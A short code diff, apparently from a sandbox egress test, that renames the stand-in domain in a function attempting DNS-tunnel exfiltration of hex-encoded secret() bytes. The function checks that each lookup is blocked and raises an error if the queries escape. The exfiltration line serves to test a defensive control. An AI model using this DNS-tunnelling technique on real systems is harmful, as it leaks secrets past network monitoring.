@@ -3,10 +3,10 @@
 # blocked: not-asked
 def send():
     for part in range(5):
-        code, _ = resolved(f"data{part}-{secret()[:20].hex()}.forbidden.test")
+        code, _ = resolved(f"data{part}-{secret()[:20].hex()}.tunnel.test")
         if code != 3:
             raise Blocked(f"code-{code}")
-    if heard("forbidden.test"):
+    if heard("tunnel.test"):
         return "the questions were heard outside"
     raise Blocked("not-asked")
 
